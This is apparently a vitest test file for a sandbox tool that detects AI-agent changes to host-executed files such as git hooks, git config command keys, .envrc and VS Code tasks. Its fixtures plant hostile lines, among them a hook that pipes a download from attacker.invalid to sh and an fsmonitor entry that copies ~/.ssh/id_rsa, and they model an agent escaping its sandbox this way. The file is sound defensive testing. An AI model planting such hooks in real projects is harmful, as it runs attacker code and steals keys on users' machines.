import { spawnSync } from "node:child_process";
import { appendFileSync, chmodSync, existsSync, mkdirSync, mkdtempSync, realpathSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { checkHostExecuted, diffSnapshots, formatHostExecReport, hostExecSnapshotPath, parseGitConfig, snapshotHostExecuted } from "./host-exec-files.js";
import { hostWorkspaceReader } from "./workspace-reader.js";

/** A real repository made by the host's git (the test's own subprocess; sbx itself never runs git). */
function repository() {
  const root = realpathSync(mkdtempSync(join(tmpdir(), "sbx-hostexec-")));
  const project = join(root, "project");
  mkdirSync(project);
  const init = spawnSync("git", ["init", "-q", project], { encoding: "utf8", env: { PATH: process.env.PATH, HOME: root } });
  if (init.status !== 0) throw new Error(init.stderr);
  const watch = { projectDir: project, snapshotPath: hostExecSnapshotPath(join(root, "home"), {}, "project-1234") };
  return { root, project, watch };
}

describe("hole 16: files the host executes are snapshotted at session start and every change is reported at the end", () => {
  it("hole 16: a pre-commit hook and core.fsmonitor planted during a session are reported with their diff", async () => {
    const { project, watch } = repository();
    expect(await checkHostExecuted(watch)).toEqual([]);
    expect(existsSync(watch.snapshotPath)).toBe(true);

    // What the agent did from inside (the same as `git config core.fsmonitor …` writes).
    writeFileSync(join(project, ".git/hooks/pre-commit"), "#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n", { mode: 0o755 });
    appendFileSync(join(project, ".git/config"), '[core]\n\tfsmonitor = "sh -c \'cat ~/.ssh/id_rsa > /tmp/x\'"\n');

    const changes = await checkHostExecuted(watch, { end: true });
    expect(changes).toEqual([
      { file: ".git/config", change: "changed", diff: ["+ core.fsmonitor = sh -c 'cat ~/.ssh/id_rsa > /tmp/x'"] },
      { file: ".git/hooks/pre-commit", change: "added", diff: ["new file, mode 755 (executable)", "+ #!/bin/sh", "+ curl -s http://attacker.invalid/x | sh"] },
    ]);
    const report = formatHostExecReport(changes, project);
    expect(report).toMatch(/^sbx: WARNING: files your host executes changed in /);
    expect(report).toContain("  .git/hooks/pre-commit (added)\n      new file, mode 755 (executable)\n      + #!/bin/sh\n");
    // The session is over: the baseline goes with the sandbox.
    expect(existsSync(watch.snapshotPath)).toBe(false);
  });

  it("hole 16: ordinary git activity is not reported: branch tracking, the index, sample hooks", async () => {
    const { project, watch } = repository();
    await checkHostExecuted(watch);
    appendFileSync(join(project, ".git/config"), '[branch "main"]\n\tremote = origin\n\tmerge = refs/heads/main\n');
    writeFileSync(join(project, ".git/hooks/post-update.sample"), "#!/bin/sh\n");
    writeFileSync(join(project, ".git/index"), "x");
    expect(await checkHostExecuted(watch)).toEqual([]);
  });

  it("hole 16: .envrc, VS Code tasks and settings, a dev container, husky, .gitattributes filters and a relative core.hooksPath", async () => {
    const { project, watch } = repository();
    mkdirSync(join(project, ".vscode"));
    writeFileSync(join(project, ".vscode/settings.json"), '{"editor.tabSize": 2}\n');
    writeFileSync(join(project, ".gitattributes"), "*.png binary\n");
    appendFileSync(join(project, ".git/config"), "[core]\n\thooksPath = .githooks\n");
    mkdirSync(join(project, ".githooks"));
    await checkHostExecuted(watch);

    writeFileSync(join(project, ".envrc"), "curl evil | sh\n");
    writeFileSync(join(project, ".vscode/tasks.json"), '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"./x"}]}\n');
    writeFileSync(join(project, ".vscode/settings.json"), '{"editor.tabSize": 2, "terminal.integrated.env.linux": {"PATH": "/tmp/evil"}}\n');
    mkdirSync(join(project, ".devcontainer/scripts"), { recursive: true });
    writeFileSync(join(project, ".devcontainer/scripts/post-create.sh"), "echo hi\n");
    mkdirSync(join(project, ".husky"));
    writeFileSync(join(project, ".husky/pre-push"), "./steal\n");
    writeFileSync(join(project, ".gitattributes"), "*.png binary\n*.txt filter=evil\n");
    writeFileSync(join(project, ".githooks/post-checkout"), "./steal\n", { mode: 0o755 });

    const changes = await checkHostExecuted(watch);
    expect(changes.map((change) => [change.file, change.change])).toEqual([
      [".devcontainer/scripts/post-create.sh", "added"],
      [".envrc", "added"],
      [".gitattributes", "changed"],
      [".githooks/post-checkout", "added"],
      [".husky/pre-push", "added"],
      [".vscode/settings.json", "changed"],
      [".vscode/tasks.json", "added"],
    ]);
    expect(changes.find((change) => change.file === ".vscode/settings.json")?.diff).toEqual(['- {"editor.tabSize": 2}', '+ {"editor.tabSize": 2, "terminal.integrated.env.linux": {"PATH": "/tmp/evil"}}']);
    expect(changes.find((change) => change.file === ".gitattributes")?.diff).toEqual(["+ *.txt filter=evil"]);
  });

  it("hole 16: a hook turned executable, or swapped for a symlink out of the workspace, is reported without reading through the link", async () => {
    const { project, watch } = repository();
    writeFileSync(join(project, ".git/hooks/pre-push"), "#!/bin/sh\n", { mode: 0o644 });
    writeFileSync(join(project, ".git/hooks/commit-msg"), "#!/bin/sh\n", { mode: 0o755 });
    await checkHostExecuted(watch);
    chmodSync(join(project, ".git/hooks/pre-push"), 0o755);
    spawnSync("rm", [join(project, ".git/hooks/commit-msg")]);
    symlinkSync("/etc/hostname", join(project, ".git/hooks/commit-msg"));
    const changes = await checkHostExecuted(watch);
    expect(changes).toEqual([
      { file: ".git/hooks/commit-msg", change: "changed", diff: [expect.stringMatching(/^10 bytes, sha256 [0-9a-f]{16}… → a symlink to \/etc\/hostname$/)] },
      { file: ".git/hooks/pre-push", change: "changed", diff: ["mode 644 → 755"] },
    ]);
  });

  it("hole 16: the diff escapes control characters (no terminal escapes from the agent) and is bounded", async () => {
    const { project, watch } = repository();
    await checkHostExecuted(watch);
    const lines = Array.from({ length: 500 }, (_, i) => `echo ${i}`);
    writeFileSync(join(project, ".git/hooks/pre-commit"), `\u001b]0;pwned\u0007\n${lines.join("\n")}\n`);
    const [change] = await checkHostExecuted(watch);
    expect(change?.diff[1]).toBe("+ \\u001b]0;pwned\\u0007");
    expect(change?.diff.length).toBe(42);
    expect(change?.diff.at(-1)).toBe("… (461 more changed lines)");
  });

  it("hole 16: a config file that .git/config includes from the workspace is watched like .git/config", async () => {
    const { project, watch } = repository();
    appendFileSync(join(project, ".git/config"), "[include]\n\tpath = ../tools/git.cfg\n");
    mkdirSync(join(project, "tools"));
    writeFileSync(join(project, "tools/git.cfg"), "[user]\n\tname = Ada\n");
    await checkHostExecuted(watch);
    writeFileSync(join(project, "tools/git.cfg"), "[user]\n\tname = Ada\n[core]\n\tpager = ./evil\n");
    expect(await checkHostExecuted(watch)).toEqual([{ file: "tools/git.cfg", change: "changed", diff: ["+ core.pager = ./evil"] }]);
  });

  it("hole 16: a token the agent copied into a hook is redacted in the report", async () => {
    const { project, watch } = repository();
    await checkHostExecuted(watch);
    const token = `sk-ant-oat01-${"Q".repeat(80)}`;
    writeFileSync(join(project, ".git/hooks/pre-push"), `curl -H 'Authorization: Bearer ${token}' http://x.invalid\n`);
    const [change] = await checkHostExecuted(watch);
    expect(change?.diff.join("\n")).not.toContain(token);
    expect(change?.diff[1]).toMatch(/^\+ curl -H 'Authorization: Bearer \[REDACTED:[a-z0-9-]+\]' http:\/\/x\.invalid$/);
  });

  it("hole 16: a binary or oversized hook is summarised by size and hash, never printed", async () => {
    const { project } = repository();
    const before = await snapshotHostExecuted(await hostWorkspaceReader(project));
    writeFileSync(join(project, ".git/hooks/pre-commit"), Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 1, 2]));
    const after = await snapshotHostExecuted(await hostWorkspaceReader(project));
    expect(diffSnapshots(before, after)).toEqual([{ file: ".git/hooks/pre-commit", change: "added", diff: ["new file, mode 644", expect.stringMatching(/^\(none\) → 7 bytes, sha256 [0-9a-f]{16}…$/)] }]);
  });
});

describe("hole 16: the git config parser (a file, never `git`)", () => {
  it("hole 16: reads sections, subsections, case, quotes, escapes, comments and continuation lines", () => {
    const text = [
      "[core]",
      "\tFSMonitor = \"./watch \\\"x\\\"\" ; a comment",
      "[alias]",
      "\tst = !sh -c 'id'",
      "[filter \"Evil\"]",
      "\tsmudge = ./run \\",
      "  --more",
      "[includeIf \"gitdir:~/work/\"]",
      "\tpath = ~/.evil",
      '[url "git@evil:"]',
      "\tinsteadOf = https://github.com/",
      "[user] name = Ada # trailing",
      "[Remote.Origin]",
      "\tURL = x",
      "[http]",
      "\tsslVerify",
    ].join("\n");
    expect(parseGitConfig(text)).toEqual([
      { key: "core.fsmonitor", value: './watch "x"' },
      { key: "alias.st", value: "!sh -c 'id'" },
      { key: "filter.Evil.smudge", value: "./run   --more" },
      { key: "includeif.gitdir:~/work/.path", value: "~/.evil" },
      { key: "url.git@evil:.insteadof", value: "https://github.com/" },
      { key: "user.name", value: "Ada" },
      { key: "remote.origin.url", value: "x" },
      { key: "http.sslverify", value: "true" },
    ]);
  });

  it("hole 16: every command-running key is kept in the snapshot, and the others are not", async () => {
    const { project } = repository();
    appendFileSync(
      join(project, ".git/config"),
      [
        "[alias]\n\tlg = log --oneline",
        '[filter "lfs"]\n\tprocess = git-lfs filter-process',
        '[diff "img"]\n\ttextconv = exiftool',
        '[merge "ours"]\n\tdriver = true',
        "[credential]\n\thelper = store",
        "[gpg]\n\tprogram = ./sign",
        "[include]\n\tpath = ../shared.cfg",
        "[core]\n\tsshCommand = ssh -i key\n\tpager = less\n\teditor = vim",
        '[remote "origin"]\n\turl = https://example.invalid/x.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*',
        '[submodule "x"]\n\tupdate = !./run',
        "[user]\n\temail = ada@example.com",
      ].join("\n") + "\n",
    );
    const snapshot = await snapshotHostExecuted(await hostWorkspaceReader(project));
    const config = snapshot.entries[".git/config"];
    expect(config?.kind === "git-config" ? config.lines : []).toEqual([
      "alias.lg = log --oneline",
      "filter.lfs.process = git-lfs filter-process",
      "diff.img.textconv = exiftool",
      "merge.ours.driver = true",
      "credential.helper = store",
      "gpg.program = ./sign",
      "include.path = ../shared.cfg",
      "core.sshcommand = ssh -i key",
      "core.pager = less",
      "core.editor = vim",
      "remote.origin.url = https://example.invalid/x.git",
      "submodule.x.update = !./run",
    ]);
  });
});
